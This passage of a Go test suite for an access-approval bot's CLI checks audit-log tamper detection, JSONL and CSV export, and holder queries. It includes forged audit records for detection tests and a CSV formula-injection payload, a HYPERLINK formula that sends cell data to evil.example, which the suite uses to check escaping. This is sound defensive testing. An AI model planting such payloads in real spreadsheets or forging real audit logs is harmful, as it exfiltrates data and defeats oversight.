package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"go.etcd.io/bbolt"

	"github.com/accessbot/accessbot/approvals"
	"github.com/accessbot/accessbot/store"
)

// The operator CLI is tested by calling run, as the binary would be run,
// against a real bbolt file that a real approvals.Service filled with a
// realistic lifecycle under a settable clock.

// cliT0 is the instant the fixture's story starts.
var cliT0 = time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)

// cliClock is the Service's clock.
type cliClock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *cliClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *cliClock) Set(t time.Time) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = t
}

// cliProvider grants and revokes nothing but remembers the calls.
type cliProvider struct {
	mu    sync.Mutex
	calls []string
}

func (p *cliProvider) Grant(_ context.Context, req approvals.GrantRequest) (approvals.GrantResult, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.calls = append(p.calls, "grant "+req.Identity)
	return approvals.GrantResult{}, nil
}

func (p *cliProvider) Revoke(_ context.Context, req approvals.RevokeRequest) error {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.calls = append(p.calls, "revoke "+req.Identity)
	return nil
}

func (p *cliProvider) Holds(context.Context, approvals.HoldsRequest) (bool, error) { return false, nil }

// cliFixture is a database, its policy and the service writing to it.
type cliFixture struct {
	t        *testing.T
	dir      string
	dbPath   string
	execLog  string // what the policy's exec plugin was asked to do
	clock    *cliClock
	db       *store.DB
	svc      *approvals.Service
	provider *cliProvider
}

const cliResource = "payroll-export"

// newCLIFixture writes a policy whose one resource is served by an exec
// plugin (a shell script that logs its calls), opens a database and a
// Service on it, and points the CLI's environment at both.
func newCLIFixture(t *testing.T) *cliFixture {
	t.Helper()
	dir := t.TempDir()
	f := &cliFixture{t: t, dir: dir, dbPath: filepath.Join(dir, "accessbot.db"), execLog: filepath.Join(dir, "exec.log"),
		clock: &cliClock{t: cliT0}, provider: &cliProvider{}}
	plugin := filepath.Join(dir, "plugin.sh")
	script := "#!/bin/sh\n{ echo \"$1\"; cat; echo; } >> '" + f.execLog + "'\necho '{}'\n"
	if err := os.WriteFile(plugin, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	policyPath := filepath.Join(dir, "policy.yaml")
	policyText := fmt.Sprintf(`admins: [U0ADMIN]
identities:
  U0ALICE: {exec: alice}
  U0DAVE: {exec: dave}
  U0CAROL: {exec: carol}
  U0ERIN: {exec: erin}
resources:
  - name: %s
    provider: exec
    exec: {command: [%s]}
    approvers: [U0BOB]
    max_duration: 4h
  - name: other
    provider: exec
    exec: {command: [%s]}
    approvers: [U0BOB]
    max_duration: 4h
`, cliResource, plugin, plugin)
	if err := os.WriteFile(policyPath, []byte(policyText), 0o600); err != nil {
		t.Fatal(err)
	}
	for k, v := range map[string]string{
		"ACCESSBOT_DB_PATH":         f.dbPath,
		"ACCESSBOT_POLICY_FILE":     policyPath,
		"ACCESSBOT_SLACK_BOT_TOKEN": "",
		"ACCESSBOT_AUDIT_CHANNEL":   "",
		"ACCESSBOT_LOG_LEVEL":       "info",
	} {
		t.Setenv(k, v)
	}
	pol, err := loadPolicy(policyPath)
	if err != nil {
		t.Fatal(err)
	}
	if f.db, err = store.Open(f.dbPath); err != nil {
		t.Fatal(err)
	}
	f.svc = approvals.New(approvals.Config{
		Store:     f.db,
		Providers: map[string]approvals.Provider{"exec": f.provider},
		Policy:    pol,
		Now:       f.clock.Now,
		Logger:    slog.New(slog.NewTextHandler(io.Discard, nil)),
	})
	t.Cleanup(func() {
		if f.db != nil {
			f.close()
		}
	})
	return f
}

// at sets the clock to cliT0 plus d.
func (f *cliFixture) at(d time.Duration) { f.clock.Set(cliT0.Add(d)) }

// submit files a request at cliT0+d and waits for its background work.
func (f *cliFixture) submit(d time.Duration, user string, dur time.Duration, reason string) string {
	f.t.Helper()
	return f.submitFor(d, user, cliResource, dur, reason)
}

func (f *cliFixture) submitFor(d time.Duration, user, resource string, dur time.Duration, reason string) string {
	f.t.Helper()
	f.at(d)
	r, err := f.svc.Submit(context.Background(), user, resource, dur, reason)
	if err != nil {
		f.t.Fatalf("submit: %v", err)
	}
	f.svc.Wait()
	return r.ID
}

// approve approves id at cliT0+d; the grant follows at the same instant.
func (f *cliFixture) approve(d time.Duration, id string) {
	f.t.Helper()
	f.at(d)
	if _, err := f.svc.Approve(context.Background(), "U0BOB", id); err != nil {
		f.t.Fatalf("approve %s: %v", id, err)
	}
	f.svc.Wait()
	if r := f.request(id); r.Status != approvals.StatusActive {
		f.t.Fatalf("%s is %s after approval, want active", id, r.Status)
	}
}

// revoke ends id early at cliT0+d, as actor.
func (f *cliFixture) revoke(d time.Duration, actor, id string) {
	f.t.Helper()
	f.at(d)
	if _, err := f.svc.Revoke(context.Background(), actor, id); err != nil {
		f.t.Fatalf("revoke %s: %v", id, err)
	}
	f.svc.Wait()
}

// sweep runs the expiry sweep at cliT0+d.
func (f *cliFixture) sweep(d time.Duration) {
	f.t.Helper()
	f.at(d)
	if err := f.svc.ExpireDue(context.Background()); err != nil {
		f.t.Fatal(err)
	}
	f.svc.Wait()
}

func (f *cliFixture) request(id string) *approvals.Request {
	f.t.Helper()
	r, err := f.db.Request(context.Background(), id)
	if err != nil {
		f.t.Fatal(err)
	}
	return r
}

// close shuts the service down and closes the database, so that the CLI
// (or the test, through bbolt) can open the file.
func (f *cliFixture) close() {
	f.t.Helper()
	f.svc.Shutdown()
	if err := f.db.Close(); err != nil {
		f.t.Fatal(err)
	}
	f.db = nil
}

// story is the lifecycle most tests run on:
//
//	09:00  alice requests payroll-export for 2h       requested
//	09:01  bob approves; granted until 11:01          approved, granting, granted
//	09:10  dave requests it for 1h                    requested
//	09:11  bob approves; granted until 10:11          approved, granting, granted
//	09:30  the admin ends dave's grant early          revoke_requested, revoked
//	11:02  the sweep revokes alice's expired grant    expired
type story struct{ alice, dave string }

const (
	aliceReason = "INC-4211 hotfix, rolling back the ledger migration"
	daveReason  = "quarter close: export for the auditors"
)

func (f *cliFixture) story() story {
	f.t.Helper()
	var s story
	s.alice = f.submit(0, "U0ALICE", 2*time.Hour, aliceReason)
	f.approve(time.Minute, s.alice)
	s.dave = f.submit(10*time.Minute, "U0DAVE", time.Hour, daveReason)
	f.approve(11*time.Minute, s.dave)
	f.revoke(30*time.Minute, "U0ADMIN", s.dave)
	f.sweep(2*time.Hour + 2*time.Minute)
	if r := f.request(s.alice); r.Status != approvals.StatusExpired {
		f.t.Fatalf("alice's grant is %s after the sweep, want expired", r.Status)
	}
	if r := f.request(s.dave); r.Status != approvals.StatusRevoked {
		f.t.Fatalf("dave's grant is %s after the revoke, want revoked", r.Status)
	}
	return s
}

// storyActions is the audit log of the story, in order: request ID
// ("alice" or "dave") and action.
var storyActions = [][2]string{
	{"alice", "requested"}, {"alice", "approved"}, {"alice", "granting"}, {"alice", "granted"},
	{"dave", "requested"}, {"dave", "approved"}, {"dave", "granting"}, {"dave", "granted"},
	{"dave", "revoke_requested"}, {"dave", "revoked"},
	{"alice", "expired"},
}

// runCLI runs the command line and returns its exit status and output.
func runCLI(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errOut bytes.Buffer
	code = run(args, &out, &errOut)
	return code, out.String(), errOut.String()
}

// events reads the audit log back through the store.
func events(t *testing.T, path string) []approvals.Event {
	t.Helper()
	db, err := store.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var evs []approvals.Event
	if err := db.Events(context.Background(), func(ev approvals.Event) error { evs = append(evs, ev); return nil }); err != nil {
		t.Fatal(err)
	}
	return evs
}

// editBolt runs fn in a write transaction on the raw bbolt file, the way
// someone with access to the disk would change it.
func editBolt(t *testing.T, path string, fn func(tx *bbolt.Tx) error) {
	t.Helper()
	b, err := bbolt.Open(path, 0o600, &bbolt.Options{Timeout: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	if err := b.Update(fn); err != nil {
		t.Fatal(err)
	}
}

func seqKey(n uint64) []byte { return binary.BigEndian.AppendUint64(nil, n) }

func auditGet(tx *bbolt.Tx, n uint64) []byte {
	return bytes.Clone(tx.Bucket([]byte("audit")).Get(seqKey(n)))
}

func auditPut(tx *bbolt.Tx, n uint64, v []byte) error {
	return tx.Bucket([]byte("audit")).Put(seqKey(n), v)
}

// forge returns record n as a forger who knows the hash function would
// write it: a valid event with Seq n chained to prev.
func forge(t *testing.T, n uint64, prev string, action string) []byte {
	t.Helper()
	ev := approvals.Event{Seq: n, Time: cliT0.Add(5 * time.Minute), Action: action, Actor: "U0BOB",
		RequestID: "ar-forged", Resource: cliResource, Outcome: "active", PrevHash: prev}
	ev.Hash = ev.ChainHash(prev)
	v, err := json.Marshal(ev)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// decodeEvent decodes a stored audit record of either format: the JSON
// of the event (schema 1), or 0x01, the 32-byte hash, then the JSON of the
// event without it.
func decodeEvent(t *testing.T, v []byte) approvals.Event {
	t.Helper()
	var ev approvals.Event
	body, hash := v, ""
	if len(v) > 33 && v[0] == 0x01 {
		body, hash = v[33:], hex.EncodeToString(v[1:33])
	}
	if err := json.Unmarshal(body, &ev); err != nil {
		t.Fatal(err)
	}
	if hash != "" {
		ev.Hash = hash
	}
	return ev
}

func TestAuditVerifyIntact(t *testing.T) {
	f := newCLIFixture(t)
	f.story()
	f.close()
	evs := events(t, f.dbPath)
	if len(evs) != len(storyActions) {
		t.Fatalf("the story wrote %d events, want %d", len(evs), len(storyActions))
	}
	code, out, errOut := runCLI(t, "audit", "verify")
	if code != 0 {
		t.Fatalf("audit verify = %d, stderr %q", code, errOut)
	}
	head := evs[len(evs)-1].Hash
	want := fmt.Sprintf("audit log intact: %d records, head %s\n", len(evs), head)
	if !strings.HasPrefix(out, want) {
		t.Errorf("audit verify printed %q, want it to start with %q", out, want)
	}
	if !strings.Contains(out, fmt.Sprintf("anchor now: %s@%d", head, len(evs))) {
		t.Errorf("audit verify printed %q, want the anchor", out)
	}
}

// TestAuditVerifyDetectsTampering edits the bbolt file by hand in each of
// the ways the contract names, and expects audit verify to fail naming the
// first record where the chain breaks.
func TestAuditVerifyDetectsTampering(t *testing.T) {
	for _, tc := range []struct {
		name string
		edit func(t *testing.T, tx *bbolt.Tx) error
		want string // in stderr
	}{
		{
			name: "changed field",
			edit: func(t *testing.T, tx *bbolt.Tx) error {
				v := auditGet(tx, 5)
				changed := bytes.Replace(v, []byte(daveReason), []byte("routine check"), 1)
				if bytes.Equal(v, changed) {
					t.Fatalf("record 5 does not hold dave's reason: %s", v)
				}
				return auditPut(tx, 5, changed)
			},
			want: "audit record 5: hash mismatch",
		},
		{
			name: "changed field with the hash recomputed",
			edit: func(t *testing.T, tx *bbolt.Tx) error {
				ev := decodeEvent(t, auditGet(tx, 4))
				ev.Identity = "mallory"
				ev.Hash = ev.ChainHash(ev.PrevHash)
				v, _ := json.Marshal(ev)
				return auditPut(tx, 4, v)
			},
			want: "audit record 5: previous hash does not match record 4",
		},
		{
			name: "changed bytes, same event",
			edit: func(t *testing.T, tx *bbolt.Tx) error {
				return auditPut(tx, 3, append(auditGet(tx, 3), ' '))
			},
			want: "audit record 3: unreadable (changed)",
		},
		{
			name: "removed record",
			edit: func(t *testing.T, tx *bbolt.Tx) error {
				return tx.Bucket([]byte("audit")).Delete(seqKey(6))
			},
			want: "audit record 7: sequence gap, record 6 missing",
		},
		{
			name: "removed last record",
			edit: func(t *testing.T, tx *bbolt.Tx) error {
				return tx.Bucket([]byte("audit")).Delete(seqKey(11))
			},
			want: "ends at record 10 but the store's head is record 11",
		},
		{
			name: "swapped records",
			edit: func(t *testing.T, tx *bbolt.Tx) error {
				v2, v3 := auditGet(tx, 2), auditGet(tx, 3)
				if err := auditPut(tx, 2, v3); err != nil {
					return err
				}
				return auditPut(tx, 3, v2)
			},
			want: "audit record 2: holds record 3",
		},
		{
			name: "inserted record, later ones renumbered",
			edit: func(t *testing.T, tx *bbolt.Tx) error {
				// Shift 5..11 up to 6..12 and forge a record 5.
				for n := uint64(11); n >= 5; n-- {
					if err := auditPut(tx, n+1, auditGet(tx, n)); err != nil {
						return err
					}
				}
				prev := decodeEvent(t, auditGet(tx, 4)).Hash
				return auditPut(tx, 5, forge(t, 5, prev, "approval"))
			},
			want: "audit record 6: holds record 5",
		},
		{
			name: "inserted record at the end",
			edit: func(t *testing.T, tx *bbolt.Tx) error {
				prev := decodeEvent(t, auditGet(tx, 11)).Hash
				return auditPut(tx, 12, forge(t, 12, prev, "approval"))
			},
			want: "ends at record 12 but the store's head is record 11",
		},
		{
			name: "inserted key between records",
			edit: func(t *testing.T, tx *bbolt.Tx) error {
				return tx.Bucket([]byte("audit")).Put(append(seqKey(3), 'x'), forge(t, 4, "", "approval"))
			},
			want: "after record 3: not an 8-byte sequence number (inserted)",
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newCLIFixture(t)
			f.story()
			f.close()
			editBolt(t, f.dbPath, func(tx *bbolt.Tx) error { return tc.edit(t, tx) })
			code, out, errOut := runCLI(t, "audit", "verify")
			if code == 0 {
				t.Fatalf("audit verify = 0 (%q) after tampering, want a failure", out)
			}
			if !strings.Contains(errOut, "audit log NOT intact") || !strings.Contains(errOut, tc.want) {
				t.Errorf("audit verify stderr = %q, want %q", errOut, tc.want)
			}
		})
	}
}

// TestAuditVerifyExpectHead cuts the log back and regrows it, rewriting the
// store's own head and counter so that the chain alone looks intact: only
// an anchor taken earlier, kept outside the file, catches it.
func TestAuditVerifyExpectHead(t *testing.T) {
	f := newCLIFixture(t)
	f.story()
	f.close()
	evs := events(t, f.dbPath)
	anchor := fmt.Sprintf("%s@%d", evs[len(evs)-1].Hash, len(evs))
	mid := fmt.Sprintf("%s@%d", evs[4].Hash, 5)

	for _, a := range []string{anchor, mid} {
		if code, out, errOut := runCLI(t, "audit", "verify", "--expect-head", a); code != 0 || !strings.Contains(out, "extends the anchor "+a) {
			t.Fatalf("audit verify --expect-head %s on the intact log = %d, %q, %q", a, code, out, errOut)
		}
	}

	// The log grows: the old anchor still holds.
	db, err := store.Open(f.dbPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := db.AppendEvent(context.Background(), approvals.Event{Time: cliT0.Add(3 * time.Hour), Action: approvals.ActionPolicyLoaded, Actor: approvals.SystemActor}); err != nil {
		t.Fatal(err)
	}
	db.Close()
	if code, _, errOut := runCLI(t, "audit", "verify", "--expect-head", anchor); code != 0 {
		t.Fatalf("audit verify --expect-head after an append = %d, %q", code, errOut)
	}

	// Cut back to record 5, with head and counter rewritten to match.
	editBolt(t, f.dbPath, func(tx *bbolt.Tx) error {
		b := tx.Bucket([]byte("audit"))
		for n := uint64(6); n <= 12; n++ {
			if err := b.Delete(seqKey(n)); err != nil {
				return err
			}
		}
		if err := b.SetSequence(5); err != nil {
			return err
		}
		return tx.Bucket([]byte("meta")).Put([]byte("audit_head"), append(seqKey(5), evs[4].Hash...))
	})
	if code, out, errOut := runCLI(t, "audit", "verify"); code != 0 || !strings.Contains(out, "5 records") {
		t.Fatalf("audit verify without an anchor after a consistent cut = %d, %q, %q; the chain alone should look intact", code, out, errOut)
	}
	code, _, errOut := runCLI(t, "audit", "verify", "--expect-head", anchor)
	if code == 0 || !strings.Contains(errOut, "audit record 11 is missing: the log ends at record 5") {
		t.Errorf("audit verify --expect-head after the cut = %d, stderr %q", code, errOut)
	}

	// Regrow it past the anchor with other events.
	db, err = store.Open(f.dbPath)
	if err != nil {
		t.Fatal(err)
	}
	for i := range 8 {
		ev := approvals.Event{Time: cliT0.Add(time.Duration(40+i) * time.Minute), Action: approvals.ActionDrift, Actor: approvals.SystemActor, Resource: cliResource}
		if err := db.AppendEvent(context.Background(), ev); err != nil {
			t.Fatal(err)
		}
	}
	db.Close()
	if code, out, errOut := runCLI(t, "audit", "verify"); code != 0 || !strings.Contains(out, "13 records") {
		t.Fatalf("audit verify of the regrown log = %d, %q, %q; the chain alone should look intact", code, out, errOut)
	}
	code, _, errOut = runCLI(t, "audit", "verify", "--expect-head", anchor)
	if code == 0 || !strings.Contains(errOut, "audit record 11 has hash") || !strings.Contains(errOut, "rewritten") {
		t.Errorf("audit verify --expect-head of the regrown log = %d, stderr %q", code, errOut)
	}
	// An anchor below the cut still holds.
	if code, _, errOut := runCLI(t, "audit", "verify", "--expect-head", mid); code != 0 {
		t.Errorf("audit verify --expect-head %s (below the cut) = %d, %q", mid, code, errOut)
	}
}

func TestAuditVerifyBadAnchor(t *testing.T) {
	f := newCLIFixture(t)
	f.close()
	for _, a := range []string{"abc", "abc@", "@3", "abc@0", "abc@x"} {
		code, _, errOut := runCLI(t, "audit", "verify", "--expect-head", a)
		if code != 2 || !strings.Contains(errOut, "HASH@N") {
			t.Errorf("audit verify --expect-head %q = %d, %q; want 2 and the expected form", a, code, errOut)
		}
	}
}

// TestCLIRefusesMissingDatabase: a mistyped ACCESSBOT_DB_PATH must not
// verify a new, empty log.
func TestCLIRefusesMissingDatabase(t *testing.T) {
	path := filepath.Join(t.TempDir(), "typo.db")
	t.Setenv("ACCESSBOT_DB_PATH", path)
	t.Setenv("ACCESSBOT_LOG_LEVEL", "info")
	for _, args := range [][]string{{"audit", "verify"}, {"audit", "export"}, {"audit", "who", cliResource}, {"grants", "list"}} {
		code, out, errOut := runCLI(t, args...)
		if code != 1 || !strings.Contains(errOut, path) || !strings.Contains(errOut, "ACCESSBOT_DB_PATH") {
			t.Errorf("%v = %d, %q, %q; want 1 naming the file and the variable", args, code, out, errOut)
		}
	}
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Errorf("the CLI created %s: %v", path, err)
	}
}

// exportFields is the documented export schema, in order (docs/audit.md).
var exportFields = []string{"seq", "time", "actor", "action", "request_id", "resource", "provider",
	"requester", "identity", "duration", "duration_seconds", "expires_at", "reason", "approvers",
	"outcome", "detail", "policy_hash", "prev_hash", "hash"}

// jsonKeys returns the top-level keys of one JSON object, in order.
func jsonKeys(t *testing.T, line string) []string {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(line))
	if tok, err := dec.Token(); err != nil || tok != json.Delim('{') {
		t.Fatalf("%q does not start an object: %v", line, err)
	}
	var keys []string
	for dec.More() {
		tok, err := dec.Token()
		if err != nil {
			t.Fatal(err)
		}
		keys = append(keys, tok.(string))
		var skip json.RawMessage
		if err := dec.Decode(&skip); err != nil {
			t.Fatal(err)
		}
	}
	return keys
}

// exported is one exported event, read back from either format.
type exported struct {
	Seq             uint64
	Time            time.Time
	Actor, Action   string
	RequestID       string
	Resource        string
	Provider        string
	Requester       string
	Identity        string
	Duration        string
	DurationSeconds int64
	ExpiresAt       string
	Reason          string
	Approvers       []string
	Outcome         string
	PrevHash, Hash  string
}

func exportJSONL(t *testing.T, args ...string) []exported {
	t.Helper()
	code, out, errOut := runCLI(t, append([]string{"audit", "export", "--format", "jsonl"}, args...)...)
	if code != 0 {
		t.Fatalf("audit export = %d, %q", code, errOut)
	}
	var got []exported
	for _, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		if line == "" {
			continue
		}
		if keys := jsonKeys(t, line); !slices.Equal(keys, exportFields) {
			t.Fatalf("export line has fields %v, want %v", keys, exportFields)
		}
		var rec struct {
			Seq             uint64   `json:"seq"`
			Time            string   `json:"time"`
			Actor           string   `json:"actor"`
			Action          string   `json:"action"`
			RequestID       string   `json:"request_id"`
			Resource        string   `json:"resource"`
			Provider        string   `json:"provider"`
			Requester       string   `json:"requester"`
			Identity        string   `json:"identity"`
			Duration        string   `json:"duration"`
			DurationSeconds int64    `json:"duration_seconds"`
			ExpiresAt       string   `json:"expires_at"`
			Reason          string   `json:"reason"`
			Approvers       []string `json:"approvers"`
			Outcome         string   `json:"outcome"`
			PrevHash        string   `json:"prev_hash"`
			Hash            string   `json:"hash"`
		}
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatal(err)
		}
		tm, err := time.Parse(time.RFC3339Nano, rec.Time)
		if err != nil {
			t.Fatalf("time %q: %v", rec.Time, err)
		}
		got = append(got, exported{rec.Seq, tm, rec.Actor, rec.Action, rec.RequestID, rec.Resource, rec.Provider,
			rec.Requester, rec.Identity, rec.Duration, rec.DurationSeconds, rec.ExpiresAt, rec.Reason, rec.Approvers,
			rec.Outcome, rec.PrevHash, rec.Hash})
	}
	return got
}

func exportCSV(t *testing.T, args ...string) (rows [][]string, got []exported) {
	t.Helper()
	code, out, errOut := runCLI(t, append([]string{"audit", "export", "--format", "csv"}, args...)...)
	if code != 0 {
		t.Fatalf("audit export --format csv = %d, %q", code, errOut)
	}
	all, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, out)
	}
	if len(all) == 0 || !slices.Equal(all[0], exportFields) {
		t.Fatalf("CSV header = %v, want %v", all[0], exportFields)
	}
	for _, row := range all[1:] {
		cell := func(name string) string { return row[slices.Index(exportFields, name)] }
		var e exported
		fmt.Sscan(cell("seq"), &e.Seq)
		fmt.Sscan(cell("duration_seconds"), &e.DurationSeconds)
		if e.Time, err = time.Parse(time.RFC3339Nano, cell("time")); err != nil {
			t.Fatalf("time %q: %v", cell("time"), err)
		}
		e.Actor, e.Action, e.RequestID, e.Resource = cell("actor"), cell("action"), cell("request_id"), cell("resource")
		e.Provider, e.Requester, e.Identity, e.Duration = cell("provider"), cell("requester"), cell("identity"), cell("duration")
		e.ExpiresAt, e.Reason, e.Outcome = cell("expires_at"), cell("reason"), cell("outcome")
		e.Approvers = strings.Fields(cell("approvers"))
		if e.Approvers == nil {
			e.Approvers = []string{}
		}
		e.PrevHash, e.Hash = cell("prev_hash"), cell("hash")
		got = append(got, e)
	}
	return all[1:], got
}

// TestAuditExportRoundTrip: every event of the lifecycle appears once, in
// order, with the documented fields, in both formats.
func TestAuditExportRoundTrip(t *testing.T) {
	f := newCLIFixture(t)
	s := f.story()
	f.close()
	evs := events(t, f.dbPath)
	ids := map[string]string{s.alice: "alice", s.dave: "dave"}
	check := func(t *testing.T, got []exported) {
		t.Helper()
		if len(got) != len(storyActions) {
			t.Fatalf("exported %d events, want %d", len(got), len(storyActions))
		}
		prev := ""
		for i, e := range got {
			ev := evs[i]
			who := ids[e.RequestID]
			if e.Seq != uint64(i+1) || [2]string{who, e.Action} != storyActions[i] {
				t.Errorf("event %d = seq %d, %s %s; want %v", i+1, e.Seq, who, e.Action, storyActions[i])
			}
			if e.PrevHash != prev || e.Hash != ev.Hash {
				t.Errorf("event %d: prev_hash %q, hash %q; want %q, %q", i+1, e.PrevHash, e.Hash, prev, ev.Hash)
			}
			prev = e.Hash
			if !e.Time.Equal(ev.Time) || e.Actor != ev.Actor || e.Resource != cliResource || e.Provider != "exec" || e.Requester != ev.Requester {
				t.Errorf("event %d = %+v, want the stored %+v", i+1, e, ev)
			}
			wantID, wantDur, wantSecs, wantReason := "alice", "2h", int64(7200), aliceReason
			if who == "dave" {
				wantID, wantDur, wantSecs, wantReason = "dave", "1h", 3600, daveReason
			}
			if e.Identity != wantID || e.Duration != wantDur || e.DurationSeconds != wantSecs || e.Reason != wantReason {
				t.Errorf("event %d: identity %q, duration %q (%ds), reason %q", i+1, e.Identity, e.Duration, e.DurationSeconds, e.Reason)
			}
			wantApprovers := []string{"U0BOB"}
			if e.Action == "requested" {
				wantApprovers = []string{}
			}
			if !slices.Equal(e.Approvers, wantApprovers) {
				t.Errorf("event %d (%s): approvers %q, want %q", i+1, e.Action, e.Approvers, wantApprovers)
			}
			wantExpiry := ""
			if !ev.ExpiresAt.IsZero() {
				wantExpiry = ev.ExpiresAt.UTC().Format(time.RFC3339Nano)
			}
			if e.ExpiresAt != wantExpiry || e.Outcome != ev.Outcome {
				t.Errorf("event %d: expires_at %q, outcome %q; want %q, %q", i+1, e.ExpiresAt, e.Outcome, wantExpiry, ev.Outcome)
			}
		}
		// Spot checks against the story itself.
		if got[3].Action != "granted" || got[3].ExpiresAt != "2026-11-22T11:01:00Z" || got[3].Actor != "accessbot" {
			t.Errorf("alice's grant exported as %+v", got[3])
		}
		if got[8].Actor != "U0ADMIN" || got[9].Outcome != "revoked" || got[10].Outcome != "expired" {
			t.Errorf("the ends exported as %+v, %+v, %+v", got[8], got[9], got[10])
		}
	}
	t.Run("jsonl", func(t *testing.T) { check(t, exportJSONL(t)) })
	t.Run("csv", func(t *testing.T) {
		_, got := exportCSV(t)
		check(t, got)
	})
	t.Run("default format is jsonl", func(t *testing.T) {
		code, out, _ := runCLI(t, "audit", "export")
		if code != 0 || strings.Count(out, "\n") != len(storyActions) || !strings.HasPrefix(out, `{"seq":1,`) {
			t.Errorf("audit export = %d, %q", code, out)
		}
	})
}

func TestAuditExportSinceUntil(t *testing.T) {
	f := newCLIFixture(t)
	s := f.story()
	f.close()
	// Dave's events are at 09:10, 09:11 and 09:30; alice's at 09:00, 09:01
	// and 11:02. since is inclusive, until exclusive.
	for _, tc := range []struct {
		args []string
		want []string // request IDs
	}{
		{[]string{"--since", "2026-11-22T09:10:00Z", "--until", "2026-11-22T09:30:00.000000001Z"}, slices.Repeat([]string{s.dave}, 6)},
		{[]string{"--since", "2026-11-22T09:10:00Z", "--until", "2026-11-22T09:30:00Z"}, slices.Repeat([]string{s.dave}, 4)},
		{[]string{"--until", "2026-11-22T09:10:00+00:00"}, slices.Repeat([]string{s.alice}, 4)},
		{[]string{"--since", "2026-11-22T12:02:00+01:00"}, []string{s.alice}},
		{[]string{"--since", "2026-11-23"}, nil},
	} {
		for _, format := range []string{"jsonl", "csv"} {
			var got []exported
			if format == "jsonl" {
				got = exportJSONL(t, tc.args...)
			} else {
				_, got = exportCSV(t, tc.args...)
			}
			var ids []string
			for _, e := range got {
				ids = append(ids, e.RequestID)
			}
			if !slices.Equal(ids, tc.want) {
				t.Errorf("audit export --format %s %v: request IDs %v, want %v", format, tc.args, ids, tc.want)
			}
		}
	}
}

func TestAuditExportBadFlags(t *testing.T) {
	f := newCLIFixture(t)
	f.close()
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--since", "yesterday"}, `--since "yesterday": use RFC 3339`},
		{[]string{"--until", "2026-11-22 09:00"}, `--until "2026-11-22 09:00": use RFC 3339`},
		{[]string{"--since", "2026-11-22T10:00:00Z", "--until", "2026-11-22T09:00:00Z"}, "is not before --until"},
		{[]string{"--format", "xlsx"}, `--format must be jsonl or csv, got "xlsx"`},
		{[]string{"--bogus"}, "flag provided but not defined: -bogus"},
		{[]string{"extra"}, `unexpected argument "extra"`},
	} {
		code, out, errOut := runCLI(t, append([]string{"audit", "export"}, tc.args...)...)
		if code != 2 || !strings.Contains(errOut, tc.want) || out != "" {
			t.Errorf("audit export %v = %d, stdout %q, stderr %q; want 2 and %q", tc.args, code, out, errOut, tc.want)
		}
	}
}

// TestAuditExportCSVFormulaEscaping: free text starting with a character a
// spreadsheet would run as a formula is defused, and only there; the JSONL
// export keeps it verbatim.
func TestAuditExportCSVFormulaEscaping(t *testing.T) {
	f := newCLIFixture(t)
	reasons := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+1 555 0100 call me",
		"-2+3",
		"@SUM(A1:A9)",
		"\tINC-1",
		"\rINC-2",
		"'quoted",
		"plain = text",
	}
	users := []string{"U0ALICE", "U0DAVE", "U0CAROL", "U0ERIN"}
	for i, reason := range reasons {
		// Each user may have one open request per resource.
		res := cliResource
		if i >= len(users) {
			res = "other"
		}
		f.submitFor(time.Duration(i)*time.Minute, users[i%len(users)], res, time.Hour, reason)
	}
	f.close()
	rows, got := exportCSV(t)
	if len(rows) != len(reasons) {
		t.Fatalf("exported %d rows, want %d", len(rows), len(reasons))
	}
	col := slices.Index(exportFields, "reason")
	for i, reason := range reasons {
		want := reason
		if strings.ContainsRune("=+-@\t\r'", rune(reason[0])) {
			want = "'" + reason
		}
		if rows[i][col] != want {
			t.Errorf("CSV reason cell %d = %q, want %q", i, rows[i][col], want)
		}
		if got[i].Reason != want {
			t.Errorf("round trip of reason %d = %q", i, got[i].Reason)
		}
		// Dropping one leading apostrophe gives back the text.
		if back := strings.TrimPrefix(rows[i][col], "'"); back != reason {
			t.Errorf("unescaping %q gives %q, want %q", rows[i][col], back, reason)
		}
	}
	for i, e := range exportJSONL(t) {
		if e.Reason != reasons[i] {
			t.Errorf("JSONL reason %d = %q, want it verbatim: %q", i, e.Reason, reasons[i])
		}
	}
}

// whoIDs runs audit who and returns the request IDs it lists.
func whoIDs(t *testing.T, args ...string) []string {
	t.Helper()
	code, out, errOut := runCLI(t, append([]string{"audit", "who"}, args...)...)
	if code != 0 {
		t.Fatalf("audit who %v = %d, %q", args, code, errOut)
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	var n int
	if _, err := fmt.Sscanf(lines[0][strings.Index(lines[0], ": ")+2:], "%d holder(s)", &n); err != nil {
		t.Fatalf("audit who %v printed %q: %v", args, out, err)
	}
	ids := []string{}
	for _, l := range lines[1:] {
		if fields := strings.Fields(l); len(fields) > 0 && fields[0] != "ID" {
			ids = append(ids, fields[0])
		}
	}
	if len(ids) != n {
		t.Fatalf("audit who %v says %d holder(s) and lists %v", args, n, ids)
	}
	return ids
}

func TestAuditWho(t *testing.T) {
	f := newCLIFixture(t)
	s := f.story()
	f.close()
	for _, tc := range []struct {
		at   string
		want []string
	}{
		{"2026-11-22T08:59:00Z", nil},                       // before anything
		{"2026-11-22T09:00:30Z", nil},                       // requested, not yet granted
